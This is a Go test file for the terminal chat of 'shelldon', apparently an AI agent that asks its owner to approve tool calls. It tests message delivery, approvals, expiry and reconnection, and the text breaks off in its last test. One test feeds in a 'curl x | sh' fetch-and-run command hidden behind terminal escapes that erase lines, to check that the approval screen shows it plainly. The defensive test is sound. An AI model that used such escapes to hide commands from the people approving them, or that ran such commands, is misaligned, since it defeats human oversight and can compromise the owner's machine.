package chat

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"shelldon/bus"
	"shelldon/clock"
	"shelldon/contracts"
	"shelldon/daemon/hub"
	"shelldon/daemon/hub/hubtest"
	"shelldon/transports/chat/chattest"
)

// waitLimit bounds every wait, so a broken chat fails instead of hanging.
const waitLimit = 10 * time.Second

// fakeCore is a hub with nothing behind it but a channel: the test plays core.
type fakeCore struct {
	hub    *hub.Hub
	socket string
	stop   func()
	inbox  chan contracts.Envelope
	joined chan contracts.Hello
}

// startCore serves a hub on socket, or on a fresh one when it is empty.
func startCore(t *testing.T, socket string) *fakeCore {
	t.Helper()
	if socket == "" {
		socket = hubtest.SocketPath(t)
	}
	c := &fakeCore{socket: socket, inbox: make(chan contracts.Envelope, 16), joined: make(chan contracts.Hello, 16)}
	c.hub, _, c.stop = hubtest.Serve(t, c.socket, hub.Config{
		Core:   c.inbox,
		OnJoin: func(p *hub.Peer) { c.joined <- p.Hello },
	})
	return c
}

// refusingCore stands in for a core whose hub refuses this user, as a real
// one refuses a user that bus.transport_users does not list (a real hub
// admits the test's own user, core's): it answers every hello with a
// refusal for reason, and returns its socket.
func refusingCore(t *testing.T, reason string) string {
	t.Helper()
	socket := hubtest.SocketPath(t)
	ln, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	refusal, err := contracts.NewEnvelope(contracts.KindWelcome, "", contracts.Welcome{Reason: reason})
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			nc, err := ln.Accept()
			if err != nil {
				return // the listener is closed
			}
			go func() {
				defer nc.Close()
				nc.SetDeadline(time.Now().Add(waitLimit))
				if _, err := bus.ReadFrame(nc, 0); err == nil {
					bus.WriteFrame(nc, refusal, 0)
				}
			}()
		}
	}()
	return socket
}

// waitJoined waits for the chat's transport and panel to join.
func (c *fakeCore) waitJoined(t *testing.T) {
	t.Helper()
	want := map[contracts.Role]bool{contracts.RoleTransport: true, contracts.RolePanel: true}
	for len(want) > 0 {
		select {
		case hello := <-c.joined:
			if hello.Name != TransportName {
				t.Errorf("the chat joined as %s %q, want the name %q", hello.Role, hello.Name, TransportName)
			}
			delete(want, hello.Role)
		case <-time.After(waitLimit):
			t.Fatalf("the chat did not join as %v", want)
		}
	}
}

func (c *fakeCore) route(t *testing.T, kind contracts.Kind, body any) {
	t.Helper()
	env, err := contracts.NewEnvelope(kind, "", body)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.hub.Route(env); err != nil {
		t.Fatalf("Route(%s) = %v", kind, err)
	}
}

// next is the next envelope the chat sent core.
func (c *fakeCore) next(t *testing.T) contracts.Envelope {
	t.Helper()
	select {
	case env := <-c.inbox:
		return env
	case <-time.After(waitLimit):
		t.Fatal("core got nothing from the chat")
		return contracts.Envelope{}
	}
}

// nextInbound is the next message the chat sent, which core confirms
// having kept, as a real core does.
func (c *fakeCore) nextInbound(t *testing.T) contracts.Inbound {
	t.Helper()
	in := c.nextUnconfirmed(t)
	c.route(t, contracts.KindInboundAck, contracts.InboundAck{Ref: in.Ref, Chat: in.Chat})
	return in
}

// nextUnconfirmed is the next message the chat sent, left unconfirmed,
// as by a core that stops before it has kept it.
func (c *fakeCore) nextUnconfirmed(t *testing.T) contracts.Inbound {
	t.Helper()
	env := c.next(t)
	var in contracts.Inbound
	if env.Kind != contracts.KindInbound || env.Decode(&in) != nil {
		t.Fatalf("core got %s %s, want a message", env.Kind, env.Body)
	}
	if env.From != contracts.RoleTransport || env.Sender != TransportName || in.Chat != TransportName {
		t.Errorf("core got a message from %s %q in chat %q, want it from transport %q in chat %q", env.From, env.Sender, in.Chat, TransportName, TransportName)
	}
	if in.Ref == "" {
		t.Errorf("the message %q has no ref, so core cannot confirm it", chattest.Shorten(in.Text))
	}
	return in
}

func (c *fakeCore) nextDecision(t *testing.T) contracts.Decision {
	t.Helper()
	env := c.next(t)
	var d contracts.Decision
	if env.Kind != contracts.KindDecision || env.Decode(&d) != nil {
		t.Fatalf("core got %s %s, want a decision", env.Kind, env.Body)
	}
	return d
}

// nothing checks that the chat sent core nothing more.
func (c *fakeCore) nothing(t *testing.T, after string) {
	t.Helper()
	select {
	case env := <-c.inbox:
		t.Errorf("after %s, core got %s %s, want nothing", after, env.Kind, chattest.Shorten(string(env.Body)))
	case <-time.After(200 * time.Millisecond):
	}
}

// ask shows the owner a request, as core does.
func (c *fakeCore) ask(t *testing.T, key, tool, detail string) {
	t.Helper()
	c.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: key, Chat: TransportName, Tool: tool,
		Note: "look closely: " + tool, Detail: detail, Expires: time.Now().Add(time.Hour), Approving: "running " + tool})
}

func (c *fakeCore) settle(t *testing.T, key, outcome string) {
	t.Helper()
	c.route(t, contracts.KindApprovalClosed, contracts.ApprovalClosed{Turn: key, Outcome: outcome, At: time.Now()})
}

// session is one running chat on a pseudo-terminal.
type session struct {
	term   *chattest.Terminal
	done   chan error
	cancel context.CancelFunc
}

// startChat runs a chat on socket in a fresh pseudo-terminal, with opts
// (Socket, In and Out are the test's).
func startChat(t *testing.T, socket string, opts Options) *session {
	t.Helper()
	term := chattest.New(t)
	s := &session{term: term, done: make(chan error, 1)}
	ctx, cancel := context.WithCancel(context.Background())
	s.cancel = cancel
	opts.Socket, opts.MaxFrame, opts.In, opts.Out = socket, 1<<20, term.Slave, term.Slave
	go func() { s.done <- Run(ctx, opts) }()
	t.Cleanup(func() {
		cancel()
		s.wait(t)
	})
	// Typing starts once the chat has said how to talk to it.
	term.WaitFor(t, "Ctrl-D quits")
	return s
}

func (s *session) wait(t *testing.T) error {
	t.Helper()
	select {
	case err := <-s.done:
		s.done <- err // for the cleanup's wait
		return err
	case <-time.After(waitLimit):
		t.Fatal("Run did not return")
		return nil
	}
}

// connected starts a chat on core and waits until it has joined: a reply
// printed proves the transport's connection is up on the chat's side too.
func connected(t *testing.T, core *fakeCore) *session {
	t.Helper()
	return connectedWith(t, core, Options{})
}

// connectedWith is connected, with opts for the chat.
func connectedWith(t *testing.T, core *fakeCore, opts Options) *session {
	t.Helper()
	s := startChat(t, core.socket, opts)
	core.waitJoined(t)
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "ready"})
	s.term.WaitFor(t, "shelldon: ready")
	return s
}

// prompt waits until the row the owner types on is want.
func (s *session) prompt(t *testing.T, want string) {
	t.Helper()
	want = strings.TrimRight(want, " ") // the screen keeps no trailing spaces
	s.term.WaitUntil(t, fmt.Sprintf("the prompt %q", want), func(string) bool { return s.term.LastLine() == want })
}

// rowOf is the first row of the screen that holds text, or -1.
func rowOf(screen, text string) int {
	for i, row := range strings.Split(screen, "\n") {
		if strings.Contains(row, text) {
			return i
		}
	}
	return -1
}

func TestTheOwnerTypesAMessage(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)

	s.term.Line(t, "   ")
	s.term.Line(t, "  hello, shelldon  ")
	first := core.nextInbound(t)
	if first.Text != "hello, shelldon" {
		t.Errorf("core got %q, want the trimmed text (a blank line sends nothing)", first.Text)
	}
	s.term.Line(t, "and again")
	if second := core.nextInbound(t); second.Text != "and again" || second.Ref == first.Ref {
		t.Errorf("core got %+v after %+v, want the next message under a ref of its own", second, first)
	}
	s.prompt(t, "> ")
}

// TestAKeptReplyIsShownOnceAndConfirmed: a reply core keeps until the
// terminal has it (one with a key) is confirmed once shown, and one core
// sends again (it did not hear the confirmation: it restarted) is
// confirmed again and not shown twice.
func TestAKeptReplyIsShownOnceAndConfirmed(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	for range 2 {
		core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "the kept answer", Key: "m3"})
		env := core.next(t)
		var ack contracts.OutboundAck
		if env.Kind != contracts.KindOutboundAck || env.Decode(&ack) != nil || ack.Key != "m3" {
			t.Fatalf("core got %s %s, want the reply m3 confirmed", env.Kind, env.Body)
		}
	}
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "and the next"})
	s.term.WaitFor(t, "shelldon: and the next")
	if n := strings.Count(s.term.Screen(), "the kept answer"); n != 1 {
		t.Errorf("the kept answer shows %d times, want once:\n%s", n, s.term.Screen())
	}
	core.nothing(t, "a reply without a key")
}

// TestALineWhileARequestWaitsIsChat: with a request waiting, a message
// and a command are what they are; only y answers.
func TestALineWhileARequestWaitsIsChat(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	core.ask(t, "a1b2c3d4e5f60718", "run_shell", "rm x")
	s.term.WaitFor(t, "shelldon asks to use run_shell [a1b2c3]: look closely: run_shell\n   rm x\n")
	s.prompt(t, "approve? [y/n]")

	for _, line := range []string{"tell me a long story", "/status"} {
		s.term.Line(t, line)
		if in := core.nextInbound(t); in.Text != line {
			t.Errorf("typing %q while a request waits sent core %q, want the line itself", line, in.Text)
		}
	}
	s.prompt(t, "approve? [y/n]")
	s.term.Line(t, "y")
	if d := core.nextDecision(t); d.Turn != "a1b2c3d4e5f60718" || !d.Approve || d.Chat != TransportName {
		t.Errorf("y sent %+v, want the approval of a1b2c3d4e5f60718 from chat %q", d, TransportName)
	}
	core.settle(t, "a1b2c3d4e5f60718", contracts.ApprovalApproved)
	s.term.WaitFor(t, "✅ Approved — running run_shell")
	s.prompt(t, "> ")
}

// TestYesAndNoAnswerOnlyARequestThatWaits: y and n answer the one request
// that waits, /yes ID and /no ID the one they name; with two waiting, y
// names neither and is not sent, and with none waiting it is chat.
func TestYesAndNoAnswerOnlyARequestThatWaits(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)

	s.term.Line(t, "y")
	if in := core.nextInbound(t); in.Text != "y" {
		t.Errorf("y with nothing waiting sent %q, want the message y", in.Text)
	}

	core.ask(t, "1111aaaa", "write_file", "write a.txt")
	core.ask(t, "2222bbbb", "git", "git push")
	s.prompt(t, "[2 requests wait: /yes ID or /no ID] >")
	s.term.Line(t, "y")
	s.term.WaitFor(t, "answer one with /yes ID or /no ID")
	core.nothing(t, "y with two requests waiting")
	s.term.Line(t, "/no 3333")
	s.term.WaitFor(t, "Nothing waiting is called 3333")
	core.nothing(t, "/no with an id nothing has")

	s.term.Line(t, "/no 2222bb")
	if d := core.nextDecision(t); d.Turn != "2222bbbb" || d.Approve {
		t.Errorf("/no 2222bb sent %+v, want the denial of 2222bbbb", d)
	}
	core.settle(t, "2222bbbb", contracts.ApprovalDenied)
	s.term.WaitFor(t, "❌ Denied — git does not run")
	s.prompt(t, "approve? [y/n]")

	s.term.Line(t, "N")
	if d := core.nextDecision(t); d.Turn != "1111aaaa" || d.Approve {
		t.Errorf("N with one request waiting sent %+v, want the denial of 1111aaaa", d)
	}
	core.settle(t, "1111aaaa", contracts.ApprovalDenied)
	s.prompt(t, "> ")
}

// TestASettledRequestStopsWaiting: a request that expires, is answered on
// another terminal or on Telegram, or is replaced, stops waiting here:
// the terminal says so, and the next n is a message.
func TestASettledRequestStopsWaiting(t *testing.T) {
	for _, tc := range []struct {
		outcome, shown string
	}{
		{contracts.ApprovalExpired, "⌛ Expired — run_shell [c0ffee] was not answered in time; nothing ran."},
		{contracts.ApprovalApproved, "✅ Approved — running run_shell (answered elsewhere)"},
		{contracts.ApprovalDenied, "❌ Denied — run_shell does not run (answered elsewhere)"},
		{contracts.ApprovalReplaced, "↻ Replaced — a newer request takes the place of run_shell [c0ffee]."},
		{contracts.ApprovalGone, "run_shell [c0ffee] no longer waits."},
	} {
		t.Run(tc.outcome, func(t *testing.T) {
			core := startCore(t, "")
			s := connected(t, core)
			core.ask(t, "c0ffee00", "run_shell", "rm x")
			s.prompt(t, "approve? [y/n]")
			core.settle(t, "c0ffee00", tc.outcome)
			s.term.WaitFor(t, tc.shown)
			s.prompt(t, "> ")
			s.term.Line(t, "n")
			if in := core.nextInbound(t); in.Text != "n" {
				t.Errorf("n after the request was %s sent %q, want the message n", tc.outcome, in.Text)
			}
		})
	}
}

// TestAnApprovalSaysWhatItDoes: the approval of a new tool is confirmed
// as keeping it, not as running it, in the words core sent with the
// request.
func TestAnApprovalSaysWhatItDoes(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "c0ffee00", Chat: TransportName, Tool: "new tool greet",
		Note: "greets", Detail: "greet.py", Expires: time.Now().Add(time.Hour), Approving: "keeping new tool greet"})
	s.prompt(t, "approve? [y/n]")
	s.term.Line(t, "y")
	if d := core.nextDecision(t); d.Turn != "c0ffee00" || !d.Approve {
		t.Fatalf("y sent %+v, want the approval of c0ffee00", d)
	}
	core.settle(t, "c0ffee00", contracts.ApprovalApproved)
	s.term.WaitFor(t, "✅ Approved — keeping new tool greet")
	s.prompt(t, "> ")
}

// TestARequestPastItsTimeStopsWaiting: a request whose time is over
// waits no more even when core's word of it never came (the terminal was
// away then): the terminal says so at its time, and the next n is a
// message.
func TestARequestPastItsTimeStopsWaiting(t *testing.T) {
	core := startCore(t, "")
	now := clock.NewFake(time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
	s := connectedWith(t, core, Options{Clock: now})
	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "dead0000", Chat: TransportName, Tool: "run_shell",
		Note: "n", Detail: "rm x", Expires: now.Now().Add(time.Hour)})
	s.prompt(t, "approve? [y/n]")
	now.Advance(time.Hour)
	s.term.WaitFor(t, "⌛ Expired — run_shell [dead00]")
	s.prompt(t, "> ")
	s.term.Line(t, "n")
	if in := core.nextInbound(t); in.Text != "n" {
		t.Errorf("n after the request's time sent %q, want the message n", in.Text)
	}
}

// TestTheTerminalShowsWhatIsThere: escapes and bidi overrides in what core
// or the model sends reach the terminal as visible text, never as
// commands to it: in replies, requests and faces alike, newlines kept.
func TestTheTerminalShowsWhatIsThere(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	core.route(t, contracts.KindOutbound, contracts.Outbound{Text: "all fine\x1b[2J\x1b[H\u202egnp.exe\nsecond\x1b]0;owned\x07 line\u009b1A"})
	s.term.WaitFor(t, "shelldon: all fine\\x1b[2J\\x1b[H<U+202E>gnp.exe\n          second\\x1b]0;owned\\x07 line<U+009B>1A")
	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t1", Tool: "write_file\x1b[8m",
		Note: "writes 5 bytes to notes.txt\r", Detail: "write tools/evil.py:\n\x1b[1A\x1b[2Kcurl x | sh", Expires: time.Now().Add(time.Hour)})
	s.term.WaitFor(t, `shelldon asks to use write_file\x1b[8m [t1]: writes 5 bytes to notes.txt\r`)
	s.term.WaitFor(t, "write tools/evil.py:\n   \\x1b[1A\\x1b[2Kcurl x | sh")
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "happy", Glyphs: "(^\x1b[5m^)", Caption: "ok\u2066"})
	s.term.WaitFor(t, `(^\x1b[5m^)  ok<U+2066>`)
	if raw := s.term.Foreign(); len(raw) > 0 {
		t.Errorf("these reached the terminal raw: %v\n%s", raw, s.term.Screen())
	}
}

// TestALongPasteArrivesWhole: a pasted line far past the 4,095
// characters of a terminal's line discipline reaches core whole; one past
// core's own bound is cut there, saying so.
func TestALongPasteArrivesWhole(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	paste := strings.Repeat("0123456789", 2000)
	s.term.Line(t, paste)
	if in := core.nextInbound(t); in.Text != paste {
		t.Errorf("a pasted line of %d characters reached core as %d: %q", len(paste), len(in.Text), chattest.Shorten(in.Text))
	}

	huge := strings.Repeat("é", 40<<10) // 80 KiB
	s.term.Line(t, huge)
	in := core.nextInbound(t)
	if len(in.Text) > maxMessage || len(in.Text) < maxMessage-1 || !strings.HasPrefix(huge, in.Text) {
		t.Errorf("an 80 KiB line reached core as %d bytes, want its first %d at a character's end", len(in.Text), maxMessage)
	}
	s.term.WaitFor(t, "That line was 80 KiB, more than a message may hold: I sent its first 64 KiB.")
	s.prompt(t, "> ")
}

// TestALongLineFromAPipeIsCut: input that is not a terminal (a script,
// a here-document) is bounded the same way and does not end the chat.
func TestALongLineFromAPipeIsCut(t *testing.T) {
	core := startCore(t, "")
	in, typing := io.Pipe()
	out := chattest.New(t)
	done := make(chan error, 1)
	go func() {
		done <- Run(context.Background(), Options{Socket: core.socket, MaxFrame: 1 << 20, In: in, Out: out.Slave})
	}()
	core.waitJoined(t)
	go func() {
		io.WriteString(typing, strings.Repeat("x", 100<<10)+"\nafter\n")
	}()
	if got := core.nextInbound(t); got.Text != strings.Repeat("x", maxMessage) {
		t.Errorf("a 100 KiB line from a pipe reached core as %d bytes, want its first %d", len(got.Text), maxMessage)
	}
	if got := core.nextInbound(t); got.Text != "after" {
		t.Errorf("the line after the long one reached core as %q", chattest.Shorten(got.Text))
	}
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "both read"})
	out.WaitFor(t, "That line was 100 KiB")
	typing.Close()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("Run at the end of the pipe = %v, want nil", err)
		}
	case <-time.After(waitLimit):
		t.Fatal("Run did not end with its input")
	}
}

// TestTheFaceComesOnceAfterTheReply: during a turn of this terminal's the
// face waits for the reply, and a face shown twice (the reaction, then
// the same face with a new status line) is printed once; the prompt
// stays the last row, and what the owner was typing stays on it.
func TestTheFaceComesOnceAfterTheReply(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	s.term.Line(t, "delete x please")
	core.nextInbound(t)
	core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t9", Busy: true})
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "thinking", Glyphs: "(o_O)", Caption: "…"})
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "curious", Glyphs: "(•ᴗ•)", Caption: "may I?"})
	time.Sleep(100 * time.Millisecond) // the face is at the terminal before the reply
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t9", Text: "I need to delete x."})
	core.ask(t, "t9", "run_shell", "rm x")
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "curious", Glyphs: "(•ᴗ•)", Caption: "may I?", Status: contracts.PanelStatus{TurnsToday: 1}})
	core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t9", Busy: false})
	s.term.WaitFor(t, "(•ᴗ•)  may I?")
	s.prompt(t, "approve? [y/n]")
	time.Sleep(200 * time.Millisecond) // a second face would be here by now
	screen := s.term.Screen()
	if n := strings.Count(screen, "(•ᴗ•)"); n != 1 {
		t.Errorf("the face is shown %d times, want once:\n%s", n, screen)
	}
	if reply, face := rowOf(screen, "I need to delete x."), rowOf(screen, "(•ᴗ•)"); face < reply {
		t.Errorf("the face (row %d) came before the reply (row %d):\n%s", face, reply, screen)
	}
	if strings.Contains(screen, "(o_O)") {
		t.Errorf("the thinking face was printed:\n%s", screen)
	}

	// A face between turns comes at once, above what is being typed.
	s.term.Type(t, "half a li")
	s.prompt(t, "approve? [y/n] half a li")
	core.route(t, contracts.KindSnapshot, contracts.Snapshot{Face: "sleepy", Glyphs: "(-_-)", Caption: "zzz"})
	s.term.WaitFor(t, "(-_-)  zzz")
	s.prompt(t, "approve? [y/n] half a li")
	s.term.Line(t, "ne")
	if in := core.nextInbound(t); in.Text != "half a line" {
		t.Errorf("core got %q, want the line typed around the face", in.Text)
	}
}

// TestTheOwnerEditsTheLine: backspace, Ctrl-U and Ctrl-W edit the line
// before it is sent, and keys that send escape sequences (arrows) leave
// it as it was.
func TestTheOwnerEditsTheLine(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	s.term.Type(t, "scratch that\x15hello wrold\x7f\x7f\x7f\x7f\x7fworld\x1b[D\x1b[A, one two\x17three\r")
	if in := core.nextInbound(t); in.Text != "hello world, one three" {
		t.Errorf("core got %q, want the edited line", in.Text)
	}
}

// TestTheOwnersEscapesReachCoreVisibly: escape sequences and control
// characters the owner types or pastes (a title, a colour, a bell) reach
// core whole, shown as the pet's own output is shown, never half-eaten;
// only the keys' own sequences (arrows, Home, F1) are passed over. A
// backspace takes one control character back whole.
func TestTheOwnersEscapesReachCoreVisibly(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	for _, tc := range []struct{ typed, want string }{
		{"\x1b]0;title\x07 set", `\x1b]0;title\x07 set`},
		{"\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"a\x1bb\x01c", `a\x1bb\x01c`},
		{"left\x1b[D\x1b[H\x1bOP\x1b[3~ keys", "left keys"},
		{"bell\x07\x7f!", "bell!"},
	} {
		s.term.Type(t, tc.typed+"\r")
		if in := core.nextInbound(t); in.Text != tc.want {
			t.Errorf("typed %q, core got %q, want %q", tc.typed, in.Text, tc.want)
		}
	}
}

// TestHelpSaysHowToAnswerHere: /help goes to core, and the terminal adds
// how a request is answered here (there are no buttons).
func TestHelpSaysHowToAnswerHere(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	s.term.Line(t, "/help")
	if in := core.nextInbound(t); in.Text != "/help" {
		t.Errorf("/help sent %q", in.Text)
	}
	s.term.WaitFor(t, "In this terminal, y or n answers the request that waits")
	s.term.WaitFor(t, "/yes ID or /no ID")
}

// TestAMessageWaitsForCore: with no core on the socket the terminal names
// the socket and how to name another, keeps what the owner typed, and
// sends it once core is there.
func TestAMessageWaitsForCore(t *testing.T) {
	socket := hubtest.SocketPath(t)
	s := startChat(t, socket, Options{})
	s.term.WaitFor(t, "no core is listening at "+socket)
	s.term.WaitFor(t, "--state-dir")
	s.term.Line(t, "anyone there?")
	s.term.WaitFor(t, notSentYet)

	core := startCore(t, socket)
	if in := core.nextInbound(t); in.Text != "anyone there?" {
		t.Errorf("core got %q, want the message typed while it was away", in.Text)
	}
	s.term.WaitFor(t, "(connected to core at "+socket+")")
}

// TestAMessageThatNeverReachedCoreFails: with no core, what the owner
// typed is not said to be kept (only core keeps it); once the input is
// over and core did not come within the wait, the chat says so and Run
// fails with ErrUndelivered, for the exit status.
func TestAMessageThatNeverReachedCoreFails(t *testing.T) {
	now := clock.NewFake(time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
	s := startChat(t, hubtest.SocketPath(t), Options{Clock: now})
	s.term.Line(t, "anyone there?")
	s.term.WaitFor(t, notSentYet)
	s.term.Type(t, "\x04")
	s.term.WaitFor(t, "Waiting up to 30 seconds")
	now.Advance(endWait)
	if err := s.wait(t); !errors.Is(err, ErrUndelivered) {
		t.Fatalf("Run after Ctrl-D with nothing delivered = %v, want ErrUndelivered", err)
	}
	s.term.WaitFor(t, "(1 message(s) you typed never reached core; send them again once it is there.)\nbye")
	if strings.Contains(s.term.Screen(), "Kept") {
		t.Errorf("the chat said a message was kept that never reached core:\n%s", s.term.Screen())
	}
}

// TestARestartedCoreGetsWhatItDidNotKeep: a message core did not confirm
// before it went away is sent again to the next core, under its ref, so
// that core can tell it from a new one; a confirmed one is not.
func TestARestartedCoreGetsWhatItDidNotKeep(t *testing.T) {
	first := startCore(t, "")
	s := connected(t, first)
	s.term.Line(t, "kept")
	kept := first.nextInbound(t)
	s.term.Line(t, "lost on the way")
	lost := first.nextUnconfirmed(t)
	first.stop()
	s.term.WaitFor(t, "(lost core at "+first.socket)

	second := startCore(t, first.socket)
	if again := second.nextInbound(t); again != lost {
		t.Errorf("the next core got %+v, want the unconfirmed %+v again", again, lost)
	}
	second.nothing(t, fmt.Sprintf("the confirmed %+v", kept))
	s.term.WaitFor(t, "(connected to core at "+first.socket+")")
}

func TestChatEndsWithCtrlD(t *testing.T) {
	core := startCore(t, "")
	s := startChat(t, core.socket, Options{Banner: "*** DEMO MODEL ***"})
	core.waitJoined(t)
	s.term.Type(t, "\x04")
	if err := s.wait(t); err != nil {
		t.Fatalf("Run after Ctrl-D = %v, want nil", err)
	}
	s.term.WaitFor(t, "bye")
	screen := s.term.Screen()
	if !strings.HasPrefix(screen, "*** DEMO MODEL ***\n") {
		t.Errorf("the screen starts %q, want the banner first", screen)
	}
	if !strings.HasSuffix(strings.TrimRight(screen, "\n"), "\nbye") {
		t.Errorf("the screen ends %q, want bye", screen)
	}
}

// TestCtrlDWaitsForTheAnswer: Ctrl-D while core is answering what was
// just sent ends the chat once the answer is on the screen, not before;
// with no answer it ends after its wait, saying where the answer goes.
func TestCtrlDWaitsForTheAnswer(t *testing.T) {
	t.Run("answered", func(t *testing.T) {
		core := startCore(t, "")
		s := connected(t, core)
		s.term.Line(t, "tell me a long story")
		core.nextInbound(t)
		core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: true})
		s.term.Type(t, "\x04")
		s.term.WaitFor(t, "(Waiting up to 30 seconds for core to answer what you sent; Ctrl-C quits now.)")
		core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t1", Text: "Once upon a time."})
		core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: false})
		if err := s.wait(t); err != nil {
			t.Fatalf("Run after Ctrl-D = %v, want nil", err)
		}
		s.term.WaitFor(t, "bye")
		screen := s.term.Screen()
		if reply, bye := rowOf(screen, "shelldon: Once upon a time."), rowOf(screen, "bye"); reply < 0 || bye < reply {
			t.Errorf("after Ctrl-D the reply is on row %d and bye on row %d, want the reply, then bye:\n%s", reply, bye, screen)
		}
	})
	t.Run("unanswered", func(t *testing.T) {
		core := startCore(t, "")
		now := clock.NewFake(time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
		s := connectedWith(t, core, Options{Clock: now})
		s.term.Line(t, "tell me a long story")
		core.nextInbound(t)
		core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: true})
		core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t1", Text: "thinking hard"})
		s.term.WaitFor(t, "shelldon: thinking hard")
		s.term.Type(t, "\x04")
		s.term.WaitFor(t, "Waiting up to 30 seconds")
		now.Advance(endWait)
		if err := s.wait(t); err != nil {
			t.Fatalf("Run after Ctrl-D = %v, want nil", err)
		}
		s.term.WaitFor(t, "(Core is still answering what you sent; a `shelldon chat` open when it is done shows it.)\nbye")
	})
}

// TestAStopShowsWhatCoreDoes: when the pet stops (Ctrl-C in `shelldon up
// --chat`) the chat says so and goes on showing what core sends — the
// answer of the turn core lets finish — until core is gone; a message
// core did not answer by then is named as kept for the next start.
func TestAStopShowsWhatCoreDoes(t *testing.T) {
	for _, tc := range []struct {
		name, reply, last string
	}{
		{"answered", "Done in time.", "shelldon: Done in time."},
		{"unanswered", "", "(Core stopped before it answered you; it keeps what you sent and answers it when it starts again.)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			core := startCore(t, "")
			stopping := make(chan struct{})
			s := connectedWith(t, core, Options{Stopping: stopping})
			s.term.Line(t, "write me a poem")
			core.nextInbound(t)
			core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: true})
			// A note during the turn, as core sends one: on the screen, it
			// says the confirmation and the turn's start, before it on the
			// same connection, are at the chat.
			core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t1", Text: "thinking hard"})
			s.term.WaitFor(t, "shelldon: thinking hard")
			close(stopping)
			s.term.WaitFor(t, stopNote)
			if tc.reply != "" {
				core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t1", Text: tc.reply})
				core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: false})
				s.term.WaitFor(t, "shelldon: "+tc.reply)
			}
			core.stop()
			s.cancel()
			if err := s.wait(t); err != nil {
				t.Fatalf("Run after the stop = %v, want nil", err)
			}
			s.term.WaitFor(t, "bye")
			screen := s.term.Screen()
			if last, bye := rowOf(screen, tc.last), rowOf(screen, "bye"); last < 0 || bye < last {
				t.Errorf("after the stop %q is on row %d and bye on row %d, want it, then bye:\n%s", tc.last, last, bye, screen)
			}
		})
	}
}

func TestChatEndsWithTheContext(t *testing.T) {
	core := startCore(t, "")
	s := startChat(t, core.socket, Options{})
	core.waitJoined(t)
	s.cancel()
	if err := s.wait(t); err != nil {
		t.Fatalf("Run after cancel = %v, want nil", err)
	}
}

func TestChatRefused(t *testing.T) {
	s := startChat(t, refusingCore(t, "uid 1234 may not be a transport"), Options{})
	err := s.wait(t)
	if !errors.Is(err, bus.ErrRefused) || !strings.Contains(err.Error(), "uid 1234 may not be a transport") {
		t.Errorf("Run when core refuses = %v, want the refusal with its reason", err)
	}
}

// TestALongDetailIsPaged: a long request shows a page at a time; /more
// shows the next and does not answer the question.
func TestALongDetailIsPaged(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	var lines []string
	for i := range pageLines + 5 {
		lines = append(lines, fmt.Sprintf("line %02d", i))
	}
	core.ask(t, "t1", "write_file", strings.Join(lines, "\n"))
	s.term.WaitFor(t, "[… 5 more line(s): type /more to see them]")
	if strings.Contains(s.term.Screen(), fmt.Sprintf("line %02d", pageLines)) {
		t.Fatal("the first page showed more than a page")
	}
	s.term.Line(t, MoreCommand)
	s.term.WaitFor(t, fmt.Sprintf("line %02d", pageLines+4))
	s.prompt(t, "approve? [y/n]")
	s.term.Line(t, "y")
	if d := core.nextDecision(t); !d.Approve || d.Turn != "t1" {
		t.Errorf("after /more, y sent %+v; want the approval of t1", d)
	}
}

// TestReachNamesTheSocketAndWhatToDo: each reason a dial fails — as the
// dial reports it — is told with the socket and what to do.
func TestReachNamesTheSocketAndWhatToDo(t *testing.T) {
	const socket = "/var/lib/shelldon/bus.sock"
	dial := func(errno syscall.Errno) error {
